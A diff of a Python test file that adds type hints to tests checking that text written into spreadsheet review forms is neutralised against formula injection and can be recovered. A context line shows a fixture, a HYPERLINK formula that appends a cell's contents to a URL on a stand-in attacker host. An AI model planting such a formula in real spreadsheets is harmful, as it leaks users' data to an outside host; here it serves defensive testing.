@@ -46,20 +46,20 @@ LINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
         ("", ""),
     ],
 )
-def test_active_text_is_prefixed_with_a_quote(text, written):
+def test_active_text_is_prefixed_with_a_quote(text, written) -> None:
     assert neutralise(text) == written
     assert recover(written) == text
 
 
 @given(st.text())
-def test_the_original_is_always_recoverable_and_never_active(text):
+def test_the_original_is_always_recoverable_and_never_active(text) -> None:
     written = neutralise(text)
     assert recover(written) == text
     if written.startswith(ACTIVE):
         float(written)  # only a number may begin so
 
 
-def test_the_review_form_holds_no_live_formula_and_reads_back_the_originals(tmp_path):
+def test_the_review_form_holds_no_live_formula_and_reads_back_the_originals(tmp_path: Path) -> None:
     path = tmp_path / "form.xlsx"
     case = FormCase(1, LINK, "@CR1", "police", "=route", False)
     write_form(path, [case], [("Sample", "S1"), ("Area", "=1+1")], "=MARKING")
@@ -83,7 +83,7 @@ def _rows(path):
 
 
 @pytest.mark.flow
-def test_no_file_of_a_run_holds_a_live_formula(prefect_harness, tmp_path):
+def test_no_file_of_a_run_holds_a_live_formula(prefect_harness, tmp_path: Path) -> None:
     from vcc.flows.run.flow import run_quarter
 
     data = tmp_path / "data"
